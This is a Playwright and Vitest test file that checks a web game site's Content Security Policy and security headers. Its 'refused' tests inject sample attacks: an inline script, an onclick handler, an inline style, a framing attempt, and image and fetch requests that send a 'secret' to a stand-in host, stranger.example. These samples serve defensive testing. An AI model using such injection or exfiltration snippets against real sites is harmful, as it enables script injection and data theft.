/** What holds strangers off: the policy of every page, the headers of the host, and both of them at work. */
import { createHash } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { launch } from './chromium';
import { pagesOf } from './pages';
import { open, watch } from './watch';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

const policyOf = (html: string): ReadonlyMap<string, readonly string[]> => {
  const text = /http-equiv="content-security-policy" content="([^"]+)"/i.exec(html)?.[1] ?? '';
  return new Map(
    text
      .replaceAll('&#39;', "'")
      .split(';')
      .map((directive) => directive.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name = '', ...sources]) => [name, sources]),
  );
};

/** The hashes of all scripts and styles that stand in a page; data for search engines is neither. */
const hashesOf = (html: string): readonly string[] =>
  [...html.matchAll(/<(script|style)(?![^>]*\s(?:src=|type="application\/))[^>]*>([\s\S]*?)<\/\1>/g)].map(
    ([, , text = '']) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`,
  );

/** Pages that run WebAssembly on their own thread. */
const WASM = ['print/custom/', 'search/'];

test('every page allows its own files, its own inline scripts by their hash, and nothing else', () => {
  for (const { path, html } of pagesOf(inject('site'))) {
    const policy = policyOf(html);
    expect(policy.get('default-src'), path).toEqual(["'self'"]);
    expect(policy.get('object-src'), path).toEqual(["'none'"]);
    expect(policy.get('base-uri'), path).toEqual(["'none'"]);
    for (const name of ['script-src', 'style-src']) {
      for (const source of policy.get(name) ?? ['no such directive']) {
        const allowed = WASM.includes(path) && name === 'script-src' ? "'wasm-unsafe-eval'" : "'self'";
        expect(
          [allowed, "'self'"].includes(source) || /^'sha(256|384|512)-/.test(source),
          `${path} ${source}`,
        ).toBe(true);
      }
    }
    const allowed = new Set([...(policy.get('script-src') ?? []), ...(policy.get('style-src') ?? [])]);
    expect(
      hashesOf(html).filter((hash) => !allowed.has(hash)),
      path,
    ).toEqual([]);
    for (const source of policy.get('img-src') ?? []) {
      expect(["'self'", 'data:', 'blob:'], path).toContain(source);
    }
  }
});

test('the host says what no page can say for itself', async () => {
  const { origin } = inject('site');
  const headers = async (path: string) => (await fetch(`${origin}${path}`)).headers;
  for (const path of ['/', '/rules/mafia/', '/nobody/']) {
    const page = await headers(path);
    expect(page.get('content-security-policy'), path).toContain("frame-ancestors 'none'");
    expect(page.get('referrer-policy')).toBe('no-referrer');
    expect(page.get('x-content-type-options')).toBe('nosniff');
    expect(page.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(page.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(page.get('permissions-policy')).toMatch(/camera=\(self\).*microphone=\(\)/);
  }
  const worker = await headers('/pagefind/pagefind-worker.js');
  expect(worker.get('content-security-policy')).toContain("default-src 'self'");
  expect((await headers('/sw.js')).get('cache-control')).toBe('no-cache');
  expect((await fetch(`${origin}/_headers`)).status).toBe(404);
});

/** Pages at work, where scripts, workers, pictures and files come in. */
const AT_WORK: readonly (readonly [path: string, work: (page: Page) => Promise<void>])[] = [
  [
    'print/custom/#kit=target&players=Ana,Ben,Cy',
    async (page) => {
      await page.locator('.side svg').first().waitFor({ timeout: 20_000 });
      await page.getByText('Images for elsewhere').click();
      await page.getByRole('button', { name: 'PNG images' }).click();
      await page.getByRole('link', { name: /^Download the PNG/ }).waitFor({ timeout: 45_000 });
      await page.getByRole('button', { name: 'Make the PDF' }).click();
      await page.getByRole('link', { name: 'Download the PDF' }).waitFor({ timeout: 45_000 });
    },
  ],
  ['search/#q=tie', (page) => page.locator('#found a').first().waitFor()],
  [
    'deal/target/#players=Ana,Ben,Cy&seed=x',
    (page) => page.getByRole('button', { name: 'Pass the phone round' }).click(),
  ],
];

test('no page runs into its own policy, nor into the headers', async () => {
  const site = inject('site');
  const { page, strangers, troubles, close } = await watch(browser, site, { serviceWorkers: 'allow' });
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() !== 'log') warnings.push(message.text());
  });
  for (const { path } of pagesOf(site).filter(({ path }) => path !== '404.html')) {
    await open(page, `${site.origin}/${path}`);
    expect([path, ...warnings, ...troubles]).toEqual([path]);
  }
  for (const [path, work] of AT_WORK) {
    await open(page, `${site.origin}/${path}`);
    await work(page);
    expect([path, ...warnings, ...troubles]).toEqual([path]);
  }
  expect(strangers).toEqual([]);
  await close();
});

describe('what does not belong to the site is refused', () => {
  const refusals = async (path: string, attack: () => void): Promise<readonly string[]> => {
    const site = inject('site');
    const { page, troubles, close } = await watch(browser, site);
    await open(page, `${site.origin}/${path}`);
    await page.evaluate(attack);
    await expect.poll(() => troubles.filter((trouble) => trouble.startsWith('policy: '))).not.toEqual([]);
    expect(await page.evaluate(() => (window as { broken?: true }).broken)).toBeUndefined();
    await close();
    return troubles.filter((trouble) => trouble.startsWith('policy: '));
  };

  test.each(['rules/mafia/', 'print/custom/'])('an inline script in %s', async (path) => {
    const [refused] = await refusals(path, () => {
      const script = document.createElement('script');
      script.textContent = 'window.broken = true';
      document.body.append(script);
    });
    expect(refused).toContain('script-src');
  });

  test('a handler written into an element', async () => {
    const [refused] = await refusals('deal/mafia/', () => {
      document.body.setAttribute('onclick', 'window.broken = true');
      document.body.click();
    });
    expect(refused).toContain('script-src');
  });

  test('a style written into an element', async () => {
    const [refused] = await refusals('rules/mafia/', () => {
      const box = document.createElement('div');
      box.setAttribute('style', 'position: fixed');
      document.body.append(box);
    });
    expect(refused).toContain('style-src');
  });

  test('a picture and a request that would carry a secret away', async () => {
    const refused = await refusals('deal/mafia/', () => {
      new Image().src = 'https://stranger.example/?secret';
      void fetch('https://stranger.example/?secret').catch(() => undefined);
    });
    expect(refused.join()).toMatch(/img-src|default-src/);
  });

  test('a frame around the site', async () => {
    const site = inject('site');
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.setContent(`<iframe src="${site.origin}/deal/mafia/"></iframe>`);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await context.close();
  });
});
